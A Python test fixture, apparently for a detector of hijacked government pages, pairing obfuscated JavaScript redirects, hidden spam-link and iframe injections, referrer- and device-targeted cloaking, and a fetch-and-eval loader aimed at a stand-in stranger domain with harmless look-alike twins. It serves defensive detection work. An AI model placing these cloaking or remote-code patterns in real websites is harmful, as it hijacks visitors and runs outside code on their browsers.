# ruff: noqa: E501
"""Scripts that put an address together, and beside each its innocent twin of the same shape. Invented, none copied.

A cloak leads to a stranger; its twin leads to the unit itself, to another office or to a library that pages use."""

import base64
from dataclasses import dataclass

from tests.reading.official_page import page

OWN = "http://www.qingshan.gov.cn/art/2024/5/6/art_12_3456.html"


@dataclass(frozen=True)
class Pair:
    """`cloak` and `twin` are scripts, or pages where they begin with `<`."""

    cloak: str
    twin: str

    @property
    def pages(self) -> tuple[str, str]:
        return page_with(self.cloak), page_with(self.twin)


def page_with(code: str) -> str:
    if code.startswith("<!"):
        return code
    return page(extra=code if code.startswith("<") else f"<script>{code}</script>")


def _codes(text: str, shift: int = 0) -> str:
    return ",".join(str(ord(character) + shift) for character in text)


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _swapped(text: str) -> str:
    """Letters counted from the end of the alphabet."""
    return "".join(chr(219 - ord(character)) if character.isalpha() else character for character in text)


def _same(template: str, stranger: tuple[str, ...], own: tuple[str, ...]) -> Pair:
    """A template with the parts `{0}`, `{1}` … of an address."""
    cloak, twin = template, template
    for number, (one, other) in enumerate(zip(stranger, own, strict=True)):
        cloak, twin = cloak.replace(f"«{number}»", one), twin.replace(f"«{number}»", other)
    return Pair(cloak, twin)


_STRANGER = ("http://www.", "dahaotxx", ".com/")
_OWN = ("http://www.", "qingshan", ".gov.cn/")
_OFFICE = ("http://www.", "hubei", ".gov.cn/")
_WHOLE, _OWN_WHOLE, _OFFICE_WHOLE = "http://www.dahaotxx.com/", "http://m.qingshan.gov.cn/", "http://www.gov.cn/"


PAIRS: dict[str, Pair] = {
    "object-properties": _same("var o={a:'«0»',b:'«1»',c:'«2»'};location.href=o.a+o.b+o['c'];", _STRANGER, _OWN),
    "nested-object": _same(
        "var c={host:{n:'«1»',t:'«2»'},p:'«0»'};setTimeout(function(){top.location=c.p+c.host.n+c.host.t},600);",
        _STRANGER,
        _OFFICE,
    ),
    "object-set-later": _same(
        "var k={};k.x='«0»';k['y']='«1»';k.z='«2»';window.location.replace(k.x+k.y+k.z);", _STRANGER, _OWN
    ),
    "returned": _same(
        "function u(){return '«0»'+n()+'«2»'}function n(){return '«1»'}location.href=u();", _STRANGER, _OWN
    ),
    "returned-whole": _same("function t(){var a='«0»';return a}window.location.href=t();", (_WHOLE,), (_OWN_WHOLE,)),
    "arrow-returned": _same("const w=(p,q)=>p+q+'«2»';location.assign(w('«0»','«1»'));", _STRANGER, _OFFICE),
    "method-of-object": _same(
        "var s={d:'«1»',go:function(){return '«0»'+this.d+'«2»'}};location=s.go();", _STRANGER, _OWN
    ),
    "getter": _same("var g={get to(){return ['«0»','«1»','«2»'].join('')}};location.href=g.to;", _STRANGER, _OWN),
    "ternary-random": _same("location.href=Math.random()<0.4?'«0»':'/index.html';", (_WHOLE,), (_OFFICE_WHOLE,)),
    "ternary-both": _same("location.href=window.top===window?'«0»a':'«0»b';", (_WHOLE,), (_OWN_WHOLE,)),
    "ternary-phone": _same(
        "var p=/Android|iPhone/i.test(navigator.userAgent);location.href=p?'«0»':'#';", (_WHOLE,), (_OWN_WHOLE,)
    ),
    "ternary-referrer": _same(
        "var from=document.referrer;window.location=from.indexOf('baidu')>-1?'«0»'+'«1»'+'«2»':location.href;",
        _STRANGER,
        _OWN,
    ),
    "ternary-hour": _same(
        "var h=new Date().getHours();var to=(h>22||h<6)?'«0»':'';if(to)location.href=to;", (_WHOLE,), (_OWN_WHOLE,)
    ),
    "screen-width": _same("if(screen.width<768){var m='«0»'+'«1»'+'«2»';location.href=m}", _STRANGER, _OWN),
    "short-codes": _same(
        "var c=[«0»],s='';for(var i=0;i<c.length;i++){s+=String.fromCharCode(c[i])}location.href='http:'+s;",
        (_codes("//dhtx.cc"),),
        (_codes("//zg.gov.cn"),),
    ),
    "shifted-codes": _same(
        "var c=[«0»];var s='';for(var i=0;i<c.length;i++)s+=String.fromCharCode(c[i]-7);document.location=s;",
        (_codes(_WHOLE, 7),),
        (_codes(_OFFICE_WHOLE, 7),),
    ),
    "while-codes": _same(
        "var k='«0»'.split(','),i=0,r='';while(i<k.length){r=r+String.fromCharCode(k[i++]^1)}top.location.href=r;",
        (",".join(str(ord(c) ^ 1) for c in _WHOLE),),
        (",".join(str(ord(c) ^ 1) for c in _OWN_WHOLE),),
    ),
    "for-of-codes": _same(
        "let t='';for(const n of [«0»]){t+=String.fromCodePoint(n)}location.replace(`//${t}/`);",
        (_codes("dahaotxx.com"),),
        (_codes("www.gov.cn"),),
    ),
    "map-codes": _same(
        "location.href=[«0»].map(function(n){return String.fromCharCode(n+3)}).join('');",
        (_codes(_WHOLE, -3),),
        (_codes(_OWN_WHOLE, -3),),
    ),
    "codes-and-text": _same(
        "location.href=String.fromCharCode(104,116)+'tp:'+String.fromCharCode(47,47)+'«0»'+String.fromCharCode(46)+'«1»';",
        ("www.dahaotxx", "com/"),
        ("www.qingshan", "gov.cn/"),
    ),
    "codes-apply": _same(
        "var q=[«0»];location=String.fromCharCode.apply(null,q);", (_codes(_WHOLE),), (_codes(_OFFICE_WHOLE),)
    ),
    "caesar": _same(
        "function d(s){return s.split('').map(function(c){return String.fromCharCode(c.charCodeAt(0)-1)}).join('')}location.href=d('«0»');",
        ("".join(chr(ord(c) + 1) for c in _WHOLE),),
        ("".join(chr(ord(c) + 1) for c in _OWN_WHOLE),),
    ),
    "backwards-loop": _same(
        "var z='«0»',y='';for(var i=z.length-1;i>=0;i--){y+=z.charAt(i)}window.location=y;",
        (_WHOLE[::-1],),
        (_OFFICE_WHOLE[::-1],),
    ),
    "picked-letters": _same(
        "var a='«0»',b='';for(var i=0;i<a.length;i+=2)b+=a[i];location.href=b;",
        ("".join(c + "q" for c in _WHOLE),),
        ("".join(c + "q" for c in _OWN_WHOLE),),
    ),
    "base64-in-parts": _same(
        "var a=['«0»','«1»'];location.href=atob(a[0]+a[1]);",
        (_base64(_WHOLE)[:16], _base64(_WHOLE)[16:]),
        (_base64(_OFFICE_WHOLE)[:16], _base64(_OFFICE_WHOLE)[16:]),
    ),
    "hex-pairs": _same(
        "var h='«0»',o='';for(var i=0;i<h.length;i+=2){o+=String.fromCharCode(parseInt(h.substr(i,2),16))}location.href=o;",
        (_WHOLE.encode().hex(),),
        (_OWN_WHOLE.encode().hex(),),
    ),
    "replace-function": _same(
        "var t='«0»'.replace(/#/g,function(){return '/'});top.location.href=t;",
        (_WHOLE.replace("/", "#"),),
        (_OWN_WHOLE.replace("/", "#"),),
    ),
    "click-existing": _same(
        '<a id="jump" href="«0»"></a><script>document.getElementById("jump").click();</script>',
        (_WHOLE,),
        (_OFFICE_WHOLE,),
    ),
    "click-by-class": _same(
        '<a class="k go2" href="«0»"></a><script>window.onload=function(){document.querySelector(".go2").click()}</script>',
        (_WHOLE,),
        (_OWN_WHOLE,),
    ),
    "click-jquery": _same(
        '<a id="g1" href="«0»"></a><script>$(function(){$("#g1")[0].click()})</script>', (_WHOLE,), (_OFFICE_WHOLE,)
    ),
    "click-event": _same(
        '<a id="ev" href="«0»"> </a><script>var e=new MouseEvent("click");setTimeout(()=>document.getElementById("ev").dispatchEvent(e),50)</script>',
        (_WHOLE,),
        (_OWN_WHOLE,),
    ),
    "submit-existing": _same(
        '<form id="fm" action="«0»"></form><script>document.getElementById("fm").submit()</script>',
        (_WHOLE,),
        (_OWN_WHOLE,),
    ),
    "filled-and-clicked": _same(
        '<a id="em"></a><script>var n=document.getElementById("em");n.href="«0»"+"«1»"+"«2»";n.click();</script>',
        _STRANGER,
        _OWN,
    ),
    "two-scripts": _same(
        "<script>var part={a:'«1»'};</script><p></p><script>location.href='«0»'+part.a+'«2»';</script>", _STRANGER, _OWN
    ),
    "frame-of-object": _same(
        "var f=document.createElement('iframe'),k={a:'//www.',b:'«0»',c:'«1»'};f.width=0;f.height=0;f.src=k.a+k.b+k.c;document.body.appendChild(f);",
        ("dahao", "txx.com/"),
        ("qing", "shan.gov.cn/tj"),
    ),
    "frame-on-page": _same(
        '<iframe id="ff" width="0" height="0"></iframe><script>var q={a:"//tj.",b:"«0»",c:"«1»"};document.getElementById("ff").src=q.a+q.b+q.c;</script>',
        ("dahao", "txx.com/"),
        ("qing", "shan.gov.cn/c"),
    ),
    "script-of-function": _same(
        "function h(a){return '//'+a.join('.')+'/j.js'}var s=document.createElement('script');s.src=h(['«0»','«1»','com']);document.getElementsByTagName('head')[0].appendChild(s);",
        ("js", "dahaotxx"),
        ("hm", "baidu"),
    ),
    "share-buttons": _same(
        "var c={p:'//',h:['«0»','com']};var s=document.createElement('script');s.async=true;s.src=c.p+c.h.join('.')+'/share.js';var t=document.getElementsByTagName('script')[0];t.parentNode.insertBefore(s,t);",
        ("static.dahaotxx",),
        ("bdimg.share.baidu",),
    ),
    "hidden-box": _same(
        "var d=document.createElement('div');d.style.display='none';var w={x:'«0»',y:'«1»',z:'«2»'};d.innerHTML='<a href=\"'+w.x+w.y+w.z+'\">大浩</a>';document.body.appendChild(d);",
        _STRANGER,
        _OFFICE,
    ),
    "written-links": _same(
        "var L=['«0»','«1»'],H='';for(var i in L){H+='<a href=\"http://www.'+L[i]+'.'+E+'/\">x</a>'}document.write('<div style=\"position:absolute;left:-999px\">'+H+'</div>');".replace(
            "+E+", "+'«2»'+"
        ),
        ("dahao'+'txx", "dahao'+'bbx", "com"),
        ("qing'+'shan", "hu'+'bei", "gov.cn"),
    ),
    "function-constructor": _same(
        "var r=['loca','tion=\"«0»','«1»','«2»\"'];[].constructor.constructor(r.join(''))();", _STRANGER, _OWN
    ),
    "flattened": _same(
        "var s='2|0|1'.split('|'),i=0,u='';while(true){switch(s[i++]){case '0':u+='«1»';continue;case '1':u+='«2»';continue;case '2':u='«0»';continue}break}location.href=u;",
        _STRANGER,
        _OWN,
    ),
    "by-any-click": _same(
        "var v={a:'«0»',b:'«1»',c:'«2»'};document.addEventListener('click',function(){window.open(v.a+v.b+v.c)});",
        _STRANGER,
        _OFFICE,
    ),
    "default-parameter": _same(
        "function nav(p='«0»',[x,y]=['«1»','«2»']){self['location']['href']=p+x+y}nav();", _STRANGER, _OWN
    ),
    "meta-refresh": _same(
        "var m={u:'«0»',v:'«1»',w:'«2»'};document.write('<meta http-equiv=\"refresh\" content=\"2;url='+m.u+m.v+m.w+'\">');",
        _STRANGER,
        _OFFICE,
    ),
    "class-method": _same(
        "class A{constructor(x){this.x=x}static t(){return '«2»'}full(){return this.x+'«1»'+A.t()}}location.href=new A('«0»').full();",
        _STRANGER,
        _OWN,
    ),
    "prototype": _same(
        "function U(){this.a='«0»'}U.prototype.full=function(){return this.a+'«1»'+'«2»'};location.href=(new U).full();",
        _STRANGER,
        _OFFICE,
    ),
    "map-of-parts": _same(
        "var m=new Map([['a','«0»'],['b','«1»'],['c','«2»']]);location.href=m.get('a')+m.get('b')+m.get('c');",
        _STRANGER,
        _OWN,
    ),
    "labelled-loops": _same(
        "var p=0,q=[];x:for(;;){for(var j=0;j<3;j++){if(p>2)break x;q.push(['«0»','«1»','«2»'][p++])}}location.href=q.join('');",
        _STRANGER,
        _OWN,
    ),
    "turned-array": _same(
        "var _0x1a=['«1»','href','«0»','location','«2»'];(function(a,n){while(--n){a.push(a.shift())}})(_0x1a,3);var _0xb=function(i){return _0x1a[i-0]};window[_0xb(1)][_0xb(4)]=_0xb(0)+_0xb(3)+_0xb(2);",
        _STRANGER,
        _OWN,
    ),
    "click-in-loop": _same(
        '<a class="xx" href="«0»"></a><script>var a=document.querySelectorAll("a.xx");for(var i=0;i<a.length;i++){a[i].click()}</script>',
        (_WHOLE,),
        (_OFFICE_WHOLE,),
    ),
    "click-inside": _same(
        '<p id="pp"><a href="«0»"></a></p><script>document.querySelector("#pp a").click()</script>',
        (_WHOLE,),
        (_OWN_WHOLE,),
    ),
    "address-on-page": _same(
        '<i id="z" data-k="«0»"></i><script>var z=document.getElementById("z").dataset.k;location.href=atob(z)</script>',
        (_base64(_WHOLE),),
        (_base64(_OWN_WHOLE),),
    ),
    "link-on-page": _same(
        '<a id="lk" href="«0»"></a><script>location.href=document.getElementById("lk").href</script>',
        (_WHOLE,),
        (_OFFICE_WHOLE,),
    ),
    "onload-attribute": _same(
        page(
            extra="<script>function ini(){var o={a:'«0»',b:'«1»',c:'«2»'};location.href=o.a+o.b+o.c}</script>"
        ).replace("<body>", "<body onload='ini()'>"),
        _STRANGER,
        _OWN,
    ),
    "counts-down": _same(
        "var n=3,o={a:'«0»',b:'«1»«2»'},t=setInterval(function(){n--;if(n<=0){clearInterval(t);location.href=o.a+o.b}},1000);",
        _STRANGER,
        _OWN,
    ),
    "engine-by-function": _same(
        "function se(){var r=document.referrer.toLowerCase();return r.indexOf('baidu.')>0||r.indexOf('sogou.')>0}var u={a:'«0»',b:'«1»«2»'};if(se()){location.href=u.a+u.b}",
        _STRANGER,
        _OWN,
    ),
    "number-in-letters": _same(
        "function b(n){return n.toString(36)}location.href='http://'+b(«0»)+'.'+'«1»'+'/';",
        (str(int("dahaotxx", 36)), "com"),
        (str(int("qingshan", 36)), "gov.cn"),
    ),
    "swapped-letters": _same(
        "var k='zyxwvutsrqponmlkjihgfedcba',s='«0»',o='';for(var i=0;i<s.length;i++){var p=k.indexOf(s.charAt(i));o+=p>-1?String.fromCharCode(97+p):s.charAt(i)}location.href=o;",
        (_swapped(_WHOLE),),
        (_swapped(_OWN_WHOLE),),
    ),
    "picked-by-chance": _same(
        "var l=['«0»','«0»b'];location.href=l[Math.floor(Math.random()*l.length)];", (_WHOLE,), (_OWN_WHOLE,)
    ),
    "click-on-written": _same(
        "document.body.innerHTML+='<a id=\"w1\" href=\"«0»«1»«2»\"></a>';document.getElementById('w1').click();",
        _STRANGER,
        _OWN,
    ),
    "fetched-and-run": _same(
        "var d={a:'//«0»',b:'«1»/s.js'};fetch(d.a+'.'+d.b).then(r=>r.text()).then(t=>eval(t));",
        ("js.dahaotxx", "com"),
        ("www.qingshan", "gov.cn"),
    ),
    "loaded-script": _same(
        "var d={a:'//«0»',b:'«1»/s.js'};$.getScript(d.a+'.'+d.b);", ("js.dahaotxx", "com"), ("hm.baidu", "com")
    ),
    "made-refresh": _same(
        "var d={a:'«0»',b:'«1»«2»'};var m=document.createElement('meta');m.httpEquiv='refresh';m.content='0;url='+d.a+d.b;document.head.appendChild(m);",
        _STRANGER,
        _OFFICE,
    ),
    "any-referrer": _same("location.href=document.referrer?'«0»':'/index.html';", (_WHOLE,), (_OWN_WHOLE,)),
    "once-by-storage": _same(
        "var n={q:'«0»',r:'«1»',s:'«2»'};if(!localStorage.getItem('seen')){localStorage.setItem('seen',1);location.href=n.q+n.r+n.s}",
        _STRANGER,
        _OWN,
    ),
}

# Innocent scripts that put something together, with no cloaked twin: nothing of them leads to a stranger by itself.
INNOCENT: dict[str, str] = {
    "vendor-config": "var cfg={proto:location.protocol+'//',host:'api.yunwang-tech.com',path:'/v1/'};function load(id){$.get(cfg.proto+cfg.host+cfg.path+id)}",
    "sign-in": "var sso={host:'http://sso.qszwfw.com',path:'/login'};if(!getCookie('token')){location.href=sso.host+sso.path+'?back='+encodeURIComponent(location.href)}",
    "sign-in-by-cookie": "var s='http://'+'sso.qszwfw.com';if(document.cookie.indexOf('token')<0){location.href=s+'/login'}",
    "button": "var o={a:'http://www.',b:'qsrmtzx',c:'.com/'};document.getElementById('zt').onclick=function(){location.href=o.a+o.b+o.c};",
    "button-listener": "function open2(){window.open(['http://www','qsrmtzx','com'].join('.'))}document.getElementById('v').addEventListener('click',open2);",
    "function-for-buttons": "function goto(n){var hosts={a:'http://www.qsrmtzx.com/',b:'http://www.gov.cn/'};location.href=hosts[n]}",
    "select-box": "function jump(s){var u=s.options[s.selectedIndex].value;if(u){window.open('http://'+u)}}",
    "unknown-host": "var h=getHost();location.href='http://'+h+'/index.html';",
    "unknown-end": "var n=sessionStorage.site;location.href='http://www.'+n+'.gov.cn/';",
    "leaves-a-frame": "var b={h:'http://www.qszwfw.com',p:'/x'};if(top!=self){top.location.href=b.h+b.p}",
    "old-browser": "var d={u:'http://www.qsupdate.com/'};if(!window.addEventListener){location.href=d.u+'ie.html'}",
    "tab-click": '<a id="t1" href="javascript:;">要闻</a><script>document.getElementById("t1").click();</script>',
    "list-of-links": "var L=['/a/1.html','/a/2.html'],h='';for(var i=0;i<L.length;i++){h+='<li><a href=\"'+L[i]+'\">x</a></li>'}document.getElementById('l').innerHTML=h;",
    "counter": "var _p=('https:'==document.location.protocol)?'https://':'http://';document.write(unescape('%3Cspan id=\"c\"%3E%3C/span%3E%3Cscript src=\"'+_p+'s4.cnzz.com/z_stat.php%3Fid%3D1\"%3E%3C/script%3E'));",
    "age-of-page": "var c=[50,48,50,52],s='';for(var i=0;i<c.length;i++)s+=String.fromCharCode(c[i]);document.write('<span>'+s+'</span>');",
    "mail-address": "var m=['zfb','qingshan.gov.cn'];document.write('<a href=\"mailto:'+m.join('@')+'\">信箱</a>');",
    "player": "var p=document.createElement('iframe');var c={h:'http://player.qsrmtzx.com',v:'/1'};p.width=640;p.height=360;p.src=c.h+c.v;document.getElementById('v').appendChild(p);",
    "share-foreign": "var b={fx:'http://www.jiathis-x.com/share?url='};function fx(){window.open(b.fx+encodeURIComponent(document.URL)+'&t='+document.title)}",
    "links-arr": "var links=[{n:'融媒',u:'http://www.qsrmtzx.com/'},{n:'日报',u:'http://www.qsrbs.com/'}];var h='';for(var i=0;i<links.length;i++){h+='<li><a href=\"'+links[i].u+'\" target=\"_blank\">'+links[i].n+'</a></li>'}document.getElementById('yl').innerHTML=h;",
    "links-jq": "$.each([{n:'融媒',u:'http://www.qsrmtzx.com/'}],function(i,o){$('#yl').append('<li><a href=\"'+o.u+'\">'+o.n+'</a></li>')});",
    "kf-widget": "(function(){var c={h:'//kf.yunwang-tech.com',v:'2'};var s=document.createElement('script');s.async=1;s.src=c.h+'/w.js?v='+c.v;document.head.appendChild(s)})();",
    "piwik": "var _paq=_paq||[];(function(){var u='//tj.yunwang-tech.com/';_paq.push(['setTrackerUrl',u+'piwik.php']);var d=document,g=d.createElement('script'),s=d.getElementsByTagName('script')[0];g.async=true;g.src=u+'piwik.js';s.parentNode.insertBefore(g,s)})();",
    "beacon": "var i=new Image(1,1);i.src=['http://tj','yunwang-tech','com/c.gif'].join('.');",
    "hm": "var _hmt=_hmt||[];(function(){var hm=document.createElement('script');hm.src='https://hm.baidu.com/hm.js?abc';var s=document.getElementsByTagName('script')[0];s.parentNode.insertBefore(hm,s)})();",
    "bdshare": "window._bd_share_config={common:{bdText:''},share:[{bdSize:16}]};with(document)0[(getElementsByTagName('head')[0]||body).appendChild(createElement('script')).src='http://bdimg.share.baidu.com/static/api/js/share.js?cdnversion='+~(-new Date()/36e5)];",
    "lang": "var L={en:'http://en.qingshan.gov.cn/',zh:'/'};var l=(navigator.language||'zh').slice(0,2);if(L[l]&&l!='zh')location.href=L[l];",
    "https": "if(location.protocol==='http:'){location.replace('https:'+location.href.substring(location.protocol.length))}",
    "www": "if(location.hostname.indexOf('www')!==0){location.href='http://www.'+location.hostname}",
    "logout": "function logout(){$.post('/logout',function(){location.href='https://sso.qszwfw.com/logout?to='+encodeURIComponent('http://'+location.host)})}",
    "weather-frame": "var c={h:'http://i.tianqi-x.com/',q:'index.php?c=code&id=1'};document.write('<iframe width=\"300\" height=\"25\" frameborder=\"0\" src=\"'+c.h+c.q+'\"></iframe>');",
    "click-tab": '<ul><li><a id="tab1" href="#t1">要闻</a></li></ul><script>$(function(){$("#tab1").click();$(".tab a").eq(0).trigger("click")})</script>',
    "click-download": '<a id="dl" href="/files/a.doc"></a><script>function d(){document.getElementById("dl").click()}</script>',
    "click-friend": '<a id="fr" href="http://www.qsrmtzx.com/">融媒</a><script>document.getElementById("img").onclick=function(){document.getElementById("fr").click()}</script>',
    "carousel": "var pics=[{s:'/a.jpg',u:'http://www.qsrmtzx.com/zt1'},{s:'/b.jpg',u:'http://www.qsrmtzx.com/zt2'}],n=0;setInterval(function(){var p=pics[n%2];document.getElementById('pic').src=p.s;document.getElementById('lnk').href=p.u;n++},3000);",
    "float-ad": "var f=document.createElement('div');f.id='float';f.style.position='absolute';f.innerHTML='<a href=\"http://www.qsrmtzx.com/zt\" target=\"_blank\"><img src=\"/p.png\"></a>';document.body.appendChild(f);var x=0;setInterval(function(){x++;f.style.left=x+'px'},50);",
    "hidden-dialog": "var d=document.createElement('div');d.className='dialog';d.style.display='none';d.innerHTML='<p>扫码关注</p><a href=\"http://www.qsrmtzx.com/\">青山融媒</a>';document.body.appendChild(d);function openD(){d.style.display='block'}",
    "mailobf": "var a=[122,102,98,64,113,115];var s='';for(var i=0;i<a.length;i++)s+=String.fromCharCode(a[i]);document.write('<a href=\"mailto:'+s+'.gov.cn\">'+s+'</a>');",
    "survey-popup": "var q={h:'http://www.wenjuan-x.com',p:'/s/1'};window.open(q.h+q.p,'dc','width=600,height=400,top=100,left=100');",
    "old-ie": "var u={a:'http://browsehappy-x.com/'};if(/MSIE [678]/.test(navigator.userAgent)){document.write('<p>浏览器版本过低，请<a href=\"'+u.a+'\">升级</a></p>')}",
    "wechat-jump": "var a={h:'https://open.weixin.qq.com/connect/oauth2/authorize'};if(/MicroMessenger/i.test(navigator.userAgent)){location.href=a.h+'?appid=1'}",
    "moved-site": "<!DOCTYPE html><html><head><title>青山县</title></head><body><p>网站已迁移至新域名，3秒后自动跳转。</p><script>var n={a:'http://www.',b:'qingshanzf',c:'.com/'};setTimeout(function(){location.href=n.a+n.b+n.c},3000)</script></body></html>",
    "vue": "new Vue({el:'#app',data:{api:'http://api.qsrmtzx.com',list:[]},methods:{go:function(id){location.href=this.api+'/d/'+id}},mounted:function(){axios.get(this.api+'/l')}});",
    "promise-sso": "fetch('/api/user').then(r=>r.json()).then(u=>{if(!u.id){location.href='https://sso.qszwfw.com/login'}});",
    "player-added": 'document.body.innerHTML+=\'<iframe src="http://player.qsrmtzx.com/1" width="600" height="400"></iframe>\';',
    "error-handler": "try{init()}catch(e){location.href='http://'+'www.qshelp.com'+'/error'}",
}
